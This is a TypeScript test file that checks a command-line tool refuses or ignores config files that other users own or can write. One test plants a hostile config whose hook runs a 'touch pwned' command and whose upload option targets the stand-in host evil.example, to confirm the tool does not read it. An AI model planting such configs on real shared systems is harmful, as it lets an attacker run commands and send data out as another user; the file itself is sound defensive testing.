/** A config file that another user can write: its options could run commands and overwrite files as this user. */
import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import t, { type Test } from 'tap';
import { KEEPS_COMPILED, PROGRAM } from '../cli/program.ts';

const OTHER = 65_533;
const SECOND = 65_532;
const [FILE, ...FIRST] = PROGRAM;

const isRoot = process.getuid?.() === 0;
const skip = isRoot ? false : 'needs root, to act as several users';

/** Sends nothing beyond this machine: the only DNS server in the options is a closed local port. */
const FENCE = { APIM_PROBE_CONNECT_TO: '::127.0.0.1:9', APIM_PROBE_DNS_SERVER: '127.0.0.1:9' };

function run(argv: readonly string[], cwd: string, setting: { uid?: number; env?: NodeJS.ProcessEnv } = {}) {
  const { uid = 0, env = {} } = setting;
  const { status, stdout, stderr } = spawnSync(FILE, [...FIRST, ...argv], {
    ...{ cwd, uid, gid: uid, encoding: 'utf8', timeout: 60_000 },
    env: { ...KEEPS_COMPILED, PATH: process.env['PATH'], ...FENCE, ...env },
  });
  return { code: status, out: stdout, err: stderr };
}

/** A folder that every user may enter, as test folders are not. */
function folder(t: Test, mode = 0o755): string {
  const path = join('/tmp', `apim-probe-attack-${process.pid}-${Math.random().toString(36).slice(2)}`);
  mkdirSync(path);
  chmodSync(path, mode);
  t.teardown(() => spawnSync('rm', ['-rf', path]));
  return path;
}

t.test('a planted ./apim-probe.yaml in a shared folder is not read, and is named', { skip }, async (t) => {
  const cwd = folder(t, 0o1777);
  const victim = join(cwd, 'victim');
  const planted = `onChange: "touch ${cwd}/pwned"\noutput: ${victim}\nlogFile: ${victim}.log\nstate: ${cwd}/state\nupload: https://evil.example/c\n`;
  writeFileSync(join(cwd, 'apim-probe.yaml'), planted);
  chownSync(join(cwd, 'apim-probe.yaml'), OTHER, OTHER);
  const { code, err } = run(['config'], cwd);
  t.equal(code, 0, err);
  t.match(err, /note: \.\/apim-probe\.yaml is not read.*--config \.\/apim-probe\.yaml/);
  const ran = run(['--deadline', '1000', '--attempts', '1', '--output', '-'], cwd);
  t.not(ran.code, 2, ran.err);
  t.notOk(existsSync(join(cwd, 'pwned')) || existsSync(victim) || existsSync(`${victim}.log`));
});

t.test(
  'named by root, it is refused with the command that fixes it, which does fix it',
  { skip },
  async (t) => {
    const cwd = folder(t);
    const path = join(cwd, 'c.yaml');
    writeFileSync(path, 'deadline: 9000\n');
    chownSync(path, OTHER, OTHER);
    const refused = run(['config', '--config', 'c.yaml'], cwd);
    t.equal(refused.code, 2);
    t.match(refused.err, `config file ${path} belongs to user ${OTHER}; root reads only`);
    t.equal(refused.out, '');
    const command = /then: (chown .*)$/m.exec(refused.err)?.[1] ?? '';
    t.equal(spawnSync('sh', ['-c', command]).status, 0, command);
    const taken = run(['config', '--config', 'c.yaml'], cwd);
    t.equal(taken.code, 0, taken.err);
    t.equal(taken.err.split('\n')[0], `Options from ${path}`);
  },
);

t.test(
  'root: writable by the group, by others, in a folder of another user, through a link',
  { skip },
  async (t) => {
    const cwd = folder(t);
    const refuse = (path: string, expected: RegExp) => {
      const { code, err } = run(['config', '--config', path], cwd);
      t.equal(code, 2, path);
      t.match(err, expected, path);
    };
    writeFileSync(join(cwd, 'group.yaml'), '');
    chmodSync(join(cwd, 'group.yaml'), 0o664);
    refuse('group.yaml', /chmod go-w/);
    mkdirSync(join(cwd, 'theirs'));
    writeFileSync(join(cwd, 'theirs', 'c.yaml'), '');
    chownSync(join(cwd, 'theirs'), OTHER, OTHER);
    refuse('theirs/c.yaml', /folder .*theirs" of user 65533.*install -D -m 644/);
    mkdirSync(join(cwd, 'open'));
    writeFileSync(join(cwd, 'open', 'c.yaml'), '');
    chmodSync(join(cwd, 'open'), 0o777);
    refuse('open/c.yaml', /folder .*open", where users other than root can replace it: chmod go-w/);
    symlinkSync(join(cwd, 'theirs', 'c.yaml'), join(cwd, 'link.yaml'));
    refuse('link.yaml', /of user 65533/);
  },
);

t.test(
  'a user: files of a third user are refused, those of root and of the user are taken',
  { skip },
  async (t) => {
    const cwd = folder(t);
    for (const [name, owner, mode, code] of [
      ['root.yaml', 0, 0o644, 0],
      ['own.yaml', OTHER, 0o600, 0],
      ['third.yaml', SECOND, 0o644, 2],
      ['open.yaml', OTHER, 0o666, 2],
    ] as const) {
      const path = join(cwd, name);
      writeFileSync(path, 'deadline: 9000\n');
      chownSync(path, owner, owner);
      chmodSync(path, mode);
      t.equal(run(['config', '--config', name], cwd, { uid: OTHER }).code, code, name);
      t.equal(
        run(['config'], cwd, { uid: OTHER, env: { APIM_PROBE_CONFIG: path } }).code,
        code,
        `${name} by variable`,
      );
    }
  },
);

t.test('a pipe of the shell is accepted, and a named pipe never blocks', async (t) => {
  const cwd = t.testdir({});
  const env = { PATH: process.env['PATH'], ...FENCE };
  const script = `"$@" config --config <(echo 'deadline: 9123') --format json`;
  const { status, stdout, stderr } = spawnSync('bash', ['-c', script, 'bash', FILE, ...FIRST], {
    cwd,
    env,
    encoding: 'utf8',
  });
  t.equal(status, 0, stderr);
  t.equal(JSON.parse(stdout).deadline.value, 9123);
  t.equal(spawnSync('mkfifo', [join(cwd, 'pipe')]).status, 0);
  t.equal(run(['config', '--config', 'pipe'], cwd, { uid: process.getuid?.() ?? 0 }).code, 2);
});

t.test(
  'a default config file that this user cannot read is a note; --no-config reads none',
  { skip },
  async (t) => {
    const cwd = folder(t);
    // A separate root, so that this test owns /etc/apim-probe.
    const etc = join(cwd, 'etc');
    mkdirSync(etc);
    const within = (uid: number, ...argv: string[]) => {
      const script = `mount --bind "${etc}" "$1" && shift && exec setpriv --reuid ${uid} --regid ${uid} --clear-groups "$@"`;
      mkdirSync('/etc/apim-probe', { recursive: true });
      const { status, stdout, stderr } = spawnSync(
        'unshare',
        ['-m', 'sh', '-c', script, 'sh', '/etc/apim-probe', FILE, ...FIRST, ...argv],
        {
          ...{ cwd, encoding: 'utf8' },
          env: { PATH: process.env['PATH'], ...FENCE },
        },
      );
      return { code: status, out: stdout, err: stderr };
    };
    const path = join(etc, 'config.yaml');
    writeFileSync(path, 'deadline: 9000\n');
    chmodSync(path, 0o600);
    const unread = within(OTHER, 'config', '--format', 'json');
    t.equal(unread.code, 0, unread.err);
    t.match(
      unread.err,
      'note: /etc/apim-probe/config.yaml cannot be read: permission denied (EACCES); its options are not used',
    );
    chmodSync(path, 0o644);
    const read = within(OTHER, 'config', '--format', 'json');
    t.equal(read.err.split('\n')[0], 'Options from /etc/apim-probe/config.yaml');
    t.equal(JSON.parse(read.out).deadline.value, 9000);
    t.equal(
      JSON.parse(within(OTHER, 'config', '--no-config', '--format', 'json').out).deadline.value,
      60_000,
    );
    chownSync(path, OTHER, OTHER);
    t.equal(
      within(0, 'config').code,
      2,
      'not trusted: root must know, and not run with other options than it thinks',
    );
    t.equal(within(0, 'config', '--no-config').code, 0);
    t.equal(readFileSync(path, 'utf8'), 'deadline: 9000\n');
  },
);
